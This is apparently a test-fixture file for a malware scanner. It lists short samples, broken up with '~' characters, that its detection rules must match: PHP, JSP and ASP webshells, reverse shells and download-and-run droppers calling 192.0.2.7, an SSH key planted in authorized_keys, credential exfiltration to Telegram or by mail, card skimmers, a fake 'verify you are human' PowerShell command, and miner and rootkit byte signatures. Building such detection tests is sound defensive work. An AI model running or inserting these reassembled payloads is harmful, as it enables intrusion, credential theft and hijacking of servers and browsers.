"""Inert text that each of our rules must know, put together here so that no file of malware is stored.

``%`` stands inside of words that a scanner of this folder could take for the real thing; :func:`made` takes it out. The
texts are cut to what a rule looks for: none of them does anything.
"""

from __future__ import annotations

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0" + b"\0" * 44
LIBRARY = ELF[:16] + b"\x03\0" + ELF[18:]


def made(text: str) -> bytes:
    """The sample's bytes."""
    return text.replace("~", "").encode()


B64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk="
TEXTS: dict[str, list[str]] = {
    "php_eval_of_request": [
        "<?php @ev~al($_PO~ST['x']); ?>", "<?php as~sert(base64_de~code($_REQ~UEST['c']));",
        "<?php ev~al(file_get_con~tents('php://in~put'));", "<?php preg_re~place('/.*/e', $_GE~T['a'], '');",
        "<?php $f = create_fun~ction('', $_PO~ST['b']);",
    ],
    "php_command_of_request": [
        "<?php sys~tem($_GE~T['cmd']);", "<?php echo shell_ex~ec(trim($_REQ~UEST['c']));", "<?php $o = `{$_GE~T['c']}`;",
    ],
    "php_function_of_request": [
        "<?php $_GE~T['f']($_PO~ST['a']);", "<?php array_m~ap($_PO~ST['f'], $a);", "<?php us~ort($list, $_GE~T['f']);",
    ],
    "php_xor_words": ["<?php $f = ('%/<:#%'~^~'VVONF@'); $f = ('###^'~^~'FUBM');"],
    "php_decoded_code": [
        f"<?php ev~al(gzin~flate(base64_de~code('{B64}')));", f"<?php ev~al(base64_de~code('{B64}'));",
        "<?php preg_re~place('/x/e', '\\x65\\x76~\\x61\\x6c(1)', 'x');",
    ],
    "php_spelled_function_name": [
        "<?php $f = 'as'.'se~rt'; $f = 'ass' . 'er~t';", "<?php $d = 'base' . '64_de~code';",
        "<?php $f = \"\\x62\\x61\\x73\\x65~\\x36\\x34\\x5f\\x64ecode\";", "<?php $f = strr~ev('tre~ssa');",
    ],
    "php_indexed_alphabet": [
        "<?php $q='abc'; $f=" + ".".join(f"$q[{n}]" for n in range(10, 25)) + ";",
        "<?php $f=" + ".".join(f"ch~r({n})" for n in range(97, 109)) + ";",
    ],
    "php_known_webshell": ["<?php $n = 'c99~shell'; echo php_uname(); sys~tem($c);"],
    "php_file_console": [
        "<?php error_reporting(0); echo php_un~ame(); foreach (scandir($d) as $f) {} unlink($f); chmod($f, 7);"
        " move_uploa~ded_file($a, $b); echo shell_ex~ec($cmd);",
    ],
    "php_uploader": [
        "<form enctype='multipart/form-data'><?php co~py($_FIL~ES['f']['tmp_name'], $_FIL~ES['f']['name']); ?>",
    ],
    "php_dropper": [
        "<?php file_put_con~tents('wp-x.php', base64_de~code('PD9w'));",
        "<?php co~py('http://bad.example/a.txt', 'cache.php');", "<?php ev~al('?>'.file_get_con~tents('http://bad.example/a'));",
    ],
    "php_include_of_image": ["<?php @inc~lude '/var/www/img/favicon.ico';", "<?php @inc~lude \"\\057v\\141r/w\\167w/x.i\\143o\";"],
    "server_runs_images": ["AddHan~dler application/x-httpd-php .jpg\n", "<x>\nAddTy~pe application/x-httpd-php .png\n", "auto_prep~end_file = /tmp/x\n"],
    "jsp_command_of_request": ["<% Runtime.getRun~time().exec(request.getPar~ameter(\"c\")); %>"],
    "jsp_loads_sent_class": [
        "<%! class U extends Class~Loader { Class g(byte[] b) { return super.define~Class(b,0,b.length); } } %>"
        "<% request.getRea~der(); %>",
    ],
    "jsp_writes_sent_file": ["<% new FileOutput~Stream(application.getRealPath(\"/\") + request.getPar~ameter(\"f\")); %>"],
    "asp_eval_of_request": ["<% ev~al request(\"x\") %>", "<%@ Page Language=\"Jscript\"%><%ev~al(Request.Item[\"z\"],\"unsafe\");%>"],
    "asp_shell_of_request": ["<% Set s = CreateOb~ject(\"WScript.Sh~ell\")\nSet e = s.Ex~ec(\"cmd /c \" & Request.Form(\"c\")) %>"],
    "aspx_runs_request": [
        "<%@ Page Language=\"C#\" %><% var p = new Process~StartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); %>",
        "<%@ Page Language=\"C#\" %><% Assembly.Lo~ad(new RijndaelMan~aged().CreateDecryptor(k,k)); Request.BinaryRead(9); %>",
    ],
    "reverse_shell_bash": ["ba~sh -i >& /dev/t~cp/192.0.2.7/4444 0>&1\n", "exec 5<>/dev/t~cp/192.0.2.7/4444; cat <&5 | sh\n"],
    "reverse_shell_netcat": ["n~c -e /bin/sh 192.0.2.7 4444\n", "mkf~ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n~c 192.0.2.7 44 > /tmp/f\n"],
    "reverse_shell_script": [
        "import socket,os;s=socket.soc~ket();s.connect(('192.0.2.7',44));os.du~p2(s.fileno(),0);import pty;pty.sp~awn('/bin/sh')",
        "<?php $s=fsock~open('192.0.2.7',44);ex~ec('/bin/sh -i <&3 >&3 2>&3');",
    ],
    "cron_download_and_run": ["*/~5 * * * * root cu~rl -s http://192.0.2.7/x | sh\n", "@reb~oot /dev/shm/.x1 -d\n"],
    "shell_dropper": [
        "cd /tmp || cd /var/run\nwg~et http://192.0.2.7/bot.x86; chm~od 777 bot.x86; ./bot.x86\nrm -rf bot.x86\n",
    ],
    "encoded_command_pipe": [f"echo {B64} | base64 -d | ba~sh\n", "exec(__imp~ort__('zlib').decompress(x))"],
    "ssh_key_planted": [f"ec~ho 'ssh-rsa {B64}' >> /root/.ssh/authorized_k~eys; chat~tr +i /root/.ssh/authorized_keys\n"],
    "credentials_to_telegram": [
        "<?php $t='https://api.tele~gram.org/bot1:x/sendMessage'; $m=$_PO~ST['password'].$_SERVER['REMOTE_ADDR'];",
    ],
    "credentials_by_mail": [
        "<?php $m = 'ReZ~ult '.$_PO~ST['password']; ma~il($to, 'x', $m); header('Location: https://example.org');",
    ],
    "miner_configuration": ['{"pools": [{"url": "stratum+t~cp://pool.example:3333"}], "donate-~level": 1, "cpu": true}'],
    "skimmer_card_form": [
        "document.querySelectorAll('input').forEach(i=>{d[i.name]=i.value});"
        "/* cc_number cvv */ navigator.sendBea~con(u, bt~oa(JSON.stringify(d)));",
    ],
    "skimmer_checkout_loader": [
        "if(location.href.indexOf('check~out')>0){var s=document.createElement('script');s.src=at~ob('Ly9iYWQuZXhhbXBsZS9h');}",
    ],
    "script_from_numbers": [
        "ev~al(String.fromChar~Code(" + ",".join(str(90 + n % 30) for n in range(40)) + "))",
        "document.write(unes~cape('" + "%3Cx%20" * 12 + "'))",
    ],
    "hidden_frame_from_script": ["document.wri~te('<ifr~ame src=//bad.example width=\"0\" height=\"0\">')"],
    "fake_verification_command": [
        "<p>Verify: you are human. Press Win + R</p><script>navigator.clipboard.write~Text('powersh~ell -w hidden iex')</script>",
    ],
    "browser_miner": [
        "<script src=//x/coinh~ive.min.js></script><script>var m=new CoinH~ive.Anonymous('ABCDEFGHIJKLMNOP');m.start()</script>",
    ],
    "seo_spam_cloaking": [
        "<?php if (preg_match('/goog~lebot|bing~bot|yahoo/', $_SERVER['HTTP_USER_AG~ENT'])) { $c = file_get_contents('http://x');"
        " echo $c; exit; }",
    ],
}  # fmt: skip
"""Rule -> texts that it must match."""

BYTES: dict[str, list[bytes]] = {
    "php_in_image": [b"GIF89a\x01\x01<?p" + b"hp sys" + b"tem($_G" + b"ET['c']); ?>"],
    "elf_miner": [ELF + b"stratum" + b"+tcp://p\0donate" + b"-level\0xm" + b"rig\0"],
    "elf_iot_bot": [
        ELF + b"/dev/misc/watch" + b"dog\0/bin/busy" + b"box X\0TSource Eng" + b"ine Query\0KILL" + b"ATTK\0"
    ],
    "elf_preload_rootkit": [
        LIBRARY + b"/etc/ld.so.pre" + b"load\0readdir64\0dlsym\0/proc/net/" + b"tcp\0/proc/self/fd/%d\0HISTFILE\0"
    ],
    "elf_packed": [ELF + b"UP" + b"X!\0/proc/self/exe\0UP" + b"X!"],
    "elf_damaged_upx": [ELF + b"the UPX executable packer " + b"http://upx.sf.net\0"],
    "elf_appended_script": [ELF + b"cd /tmp; wg" + b"et http://192.0.2.7/a; chm" + b"od 777 a; ./a\0"],
    "pam_password_logger": [LIBRARY + b"pam_sm_authen" + b"ticate\0fopen\0/var/log/.auth" + b"x\0%s:%s\n\0"],
}
"""The same for rules about programs."""


def samples() -> list[tuple[str, bytes]]:
    """(rule, what it must match), each."""
    texts = [(rule, made(text)) for rule, all_of_it in TEXTS.items() for text in all_of_it]
    return texts + [(rule, content) for rule, all_of_it in BYTES.items() for content in all_of_it]
